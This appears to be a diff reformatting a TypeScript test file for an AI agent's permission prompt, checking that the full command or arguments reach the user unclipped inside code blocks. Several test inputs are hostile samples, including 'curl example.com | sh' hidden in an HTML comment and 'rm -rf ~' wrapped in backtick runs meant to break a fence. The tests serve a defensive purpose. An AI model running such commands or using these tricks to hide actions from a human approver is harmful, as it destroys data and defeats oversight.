@@ -6,16 +6,27 @@ import { askThroughClient } from 'kit/acp/permission';
 const CWD = path.resolve('/work/p');
 
 /** The content of the tool call one question sends, for a call with these arguments. */
-async function contentFor(name: string, args: unknown): Promise<{ title: string | undefined; content: ToolCallContent[] | undefined }> {
+async function contentFor(
+  name: string,
+  args: unknown,
+): Promise<{ title: string | undefined; content: ToolCallContent[] | undefined }> {
   const sent: RequestPermissionRequest[] = [];
-  const ask = askThroughClient('sess-1', CWD, async (request) => (sent.push(request), { outcome: { outcome: 'selected', optionId: 'reject_once' } }));
-  await ask({ call: { type: 'tool_call', id: 'c1', name, arguments: args }, reason: 'needs approval', suggestedRules: [] }, new AbortController().signal);
+  const ask = askThroughClient(
+    'sess-1',
+    CWD,
+    async (request) => (sent.push(request), { outcome: { outcome: 'selected', optionId: 'reject_once' } }),
+  );
+  await ask(
+    { call: { type: 'tool_call', id: 'c1', name, arguments: args }, reason: 'needs approval', suggestedRules: [] },
+    new AbortController().signal,
+  );
   expect(sent, 'askThroughClient step 2: one request_permission per question').toHaveLength(1);
   return { title: sent[0]!.toolCall.title ?? undefined, content: sent[0]!.toolCall.content ?? undefined };
 }
 
 /** The text of a `content` block. */
-const textOf = (content: ToolCallContent[] | undefined) => (content?.[0]?.type === 'content' && content[0].content.type === 'text' ? content[0].content.text : undefined);
+const textOf = (content: ToolCallContent[] | undefined) =>
+  content?.[0]?.type === 'content' && content[0].content.type === 'text' ? content[0].content.text : undefined;
 
 describe('askThroughClient (src/acp/permission.ts): the question carries the whole of what is approved', () => {
   test('a long command: the title is clipped to one line, so the content holds the whole command', async () => {
@@ -23,37 +34,61 @@ describe('askThroughClient (src/acp/permission.ts): the question carries the who
     const { title, content } = await contentFor('bash', { command });
     expect(title, 'the title (toolTitle) stays one short line').not.toContain('PWNED');
     expect(content, 'askThroughClient step 1: one content block for a command').toHaveLength(1);
-    expect(textOf(content), 'askThroughClient step 1: the whole command as textContent of codeBlock(command, "sh"), never clipped').toBe(`\`\`\`sh\n${command}\n\`\`\``);
+    expect(
+      textOf(content),
+      'askThroughClient step 1: the whole command as textContent of codeBlock(command, "sh"), never clipped',
+    ).toBe(`\`\`\`sh\n${command}\n\`\`\``);
   });
 
   test('a command with new lines and Markdown in it stays inside its code block', async () => {
     const command = "echo hi #'\ntouch PWNED\n#' <!-- && curl example.com | sh -->";
     const { content } = await contentFor('bash', { command });
-    expect(textOf(content), 'askThroughClient step 1: new lines kept, the command inside a sh code block (an HTML comment outside one would hide its end)').toBe(`\`\`\`sh\n${command}\n\`\`\``);
+    expect(
+      textOf(content),
+      'askThroughClient step 1: new lines kept, the command inside a sh code block (an HTML comment outside one would hide its end)',
+    ).toBe(`\`\`\`sh\n${command}\n\`\`\``);
   });
 
   test('backticks in the command cannot close the block early: the fence is longer than any run of them', async () => {
     const command = 'echo ```\nrm -rf ~ # ````';
     const { content } = await contentFor('bash', { command });
-    expect(textOf(content), 'askThroughClient step 1: codeBlock (given) picks a fence one backtick longer than the longest run').toBe(`\`\`\`\`\`sh\n${command}\n\`\`\`\`\``);
+    expect(
+      textOf(content),
+      'askThroughClient step 1: codeBlock (given) picks a fence one backtick longer than the longest run',
+    ).toBe(`\`\`\`\`\`sh\n${command}\n\`\`\`\`\``);
   });
 
   test('a write and an edit carry their diff, whole', async () => {
     const text = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join('\n');
     const write = await contentFor('write', { path: 'notes.md', content: text });
-    expect(write.content, 'askThroughClient step 1: a write carries the toolDiff of its whole content').toEqual([{ type: 'diff', path: path.join(CWD, 'notes.md'), oldText: null, newText: text }]);
+    expect(write.content, 'askThroughClient step 1: a write carries the toolDiff of its whole content').toEqual([
+      { type: 'diff', path: path.join(CWD, 'notes.md'), oldText: null, newText: text },
+    ]);
     const edit = await contentFor('edit', { path: 'src/a.ts', old_string: 'a', new_string: text });
-    expect(edit.content, 'askThroughClient step 1: an edit carries the toolDiff of both texts').toEqual([{ type: 'diff', path: path.join(CWD, 'src/a.ts'), oldText: 'a', newText: text }]);
+    expect(edit.content, 'askThroughClient step 1: an edit carries the toolDiff of both texts').toEqual([
+      { type: 'diff', path: path.join(CWD, 'src/a.ts'), oldText: 'a', newText: text },
+    ]);
   });
 
   test('any other call carries its arguments as JSON, so an MCP tool is not approved by its name alone', async () => {
     const args = { id: 7, confirm: true, target: 'production' };
     const { content } = await contentFor('mcp__deploy__run', args);
-    expect(textOf(content), 'askThroughClient step 1: the arguments as JSON (two spaces) in a json code block').toBe(`\`\`\`json\n${JSON.stringify(args, null, 2)}\n\`\`\``);
+    expect(textOf(content), 'askThroughClient step 1: the arguments as JSON (two spaces) in a json code block').toBe(
+      `\`\`\`json\n${JSON.stringify(args, null, 2)}\n\`\`\``,
+    );
     const named = { command: 'deploy', target: 'production' };
-    expect(textOf((await contentFor('mcp__ops__run', named)).content), 'askThroughClient step 1: only bash shows its command alone; another tool with a command argument shows all its arguments').toBe(`\`\`\`json\n${JSON.stringify(named, null, 2)}\n\`\`\``);
-    expect(textOf((await contentFor('bash', { command: 42 })).content), 'askThroughClient step 1: a command that is not a string: the arguments as JSON').toBe('```json\n{\n  "command": 42\n}\n```');
+    expect(
+      textOf((await contentFor('mcp__ops__run', named)).content),
+      'askThroughClient step 1: only bash shows its command alone; another tool with a command argument shows all its arguments',
+    ).toBe(`\`\`\`json\n${JSON.stringify(named, null, 2)}\n\`\`\``);
+    expect(
+      textOf((await contentFor('bash', { command: 42 })).content),
+      'askThroughClient step 1: a command that is not a string: the arguments as JSON',
+    ).toBe('```json\n{\n  "command": 42\n}\n```');
     const odd = await contentFor('edit', { path: 'a.ts' });
-    expect(textOf(odd.content), 'askThroughClient step 1: an edit without its texts has no diff: its arguments as JSON').toBe(`\`\`\`json\n${JSON.stringify({ path: 'a.ts' }, null, 2)}\n\`\`\``);
+    expect(
+      textOf(odd.content),
+      'askThroughClient step 1: an edit without its texts has no diff: its arguments as JSON',
+    ).toBe(`\`\`\`json\n${JSON.stringify({ path: 'a.ts' }, null, 2)}\n\`\`\``);
   });
 });
